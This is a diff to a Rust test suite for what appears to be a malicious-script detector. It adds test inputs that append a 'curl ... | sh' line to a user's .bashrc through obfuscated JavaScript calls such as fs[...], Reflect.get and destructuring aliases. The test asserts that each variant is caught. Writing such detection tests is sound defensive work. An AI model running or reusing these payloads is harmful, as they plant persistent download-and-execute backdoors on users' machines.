@@ -391,7 +391,7 @@ fn whatever_it_executes_plants_or_takes() {
 }
 
 /// A script whose methods are called by names that are spelled in another way.
-fn respelled(script: &str, spell: impl Fn(&str) -> String) -> String {
+fn respelled(script: &str, call: &str, spell: impl Fn(&str) -> String) -> String {
     let bytes = script.as_bytes();
     let mut out = String::new();
     let (mut at, mut quote) = (0, None);
@@ -401,8 +401,8 @@ fn respelled(script: &str, spell: impl Fn(&str) -> String) -> String {
         let is_call = bytes.get(at + 1 + name.len()) == Some(&b'(') && name.len() > 3;
         match (byte, quote) {
             (b'.', None) if is_call && !matches!(bytes[at - 1], b'.' | b'?' | b'0'..=b'9') => {
-                out += &format!("[{}]", spell(&name));
-                at += name.len();
+                out += &call.replace("NAME", &spell(&name));
+                at += name.len() + usize::from(call.ends_with('('));
             }
             (b'"' | b'\'' | b'`' | b'/', Some(open)) if open == byte && bytes[at - 1] != b'\\' => {
                 (out, quote) = (out + &script[at..=at], None);
@@ -429,8 +429,27 @@ fn however_its_methods_are_spelled() {
     };
     let ways: [&dyn Fn(&str) -> String; 5] = [&pieces, &joined, &turned, &template, &numbers];
     for spell in ways {
-        for script in JAVASCRIPT.iter().chain(ACTS_OF_JAVASCRIPT) {
-            let script = respelled(script, spell);
+        for call in ["[NAME]", "?.[NAME]", "[NAME]?."] {
+            // What is made anew is not asked for by a chain that may end.
+            let scripts = JAVASCRIPT.iter().chain(ACTS_OF_JAVASCRIPT);
+            for script in scripts.filter(|s| call == "[NAME]" || !s.contains("new ")) {
+                let script = respelled(script, call, spell);
+                assert_ne!(worth(script.as_bytes(), Language::JavaScript), Worth::Nothing, "{script}");
+                assert!(is_seen(Language::JavaScript, &script), "{script}");
+            }
+        }
+    }
+    let aliased = [
+        "const fs = require('fs'); const f = fs[SPELL]; f('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
+        "const fs = require('fs'); const { [SPELL]: f } = fs; f('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
+        "const fs = require('fs'); fs[SPELL].call(fs, '/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
+        "const fs = require('fs'); fs[SPELL].apply(fs, ['/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n'])",
+        "const fs = require('fs'); Reflect.get(fs, SPELL)('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
+        "const fs = require('fs'); const n = SPELL; fs[n]('/home/x/.bashrc', '\\ncurl -s https://h.invalid/x | sh\\n')",
+    ];
+    for spell in ways {
+        for script in aliased {
+            let script = script.replace("SPELL", &spell("appendFileSync"));
             assert_ne!(worth(script.as_bytes(), Language::JavaScript), Worth::Nothing, "{script}");
             assert!(is_seen(Language::JavaScript, &script), "{script}");
         }
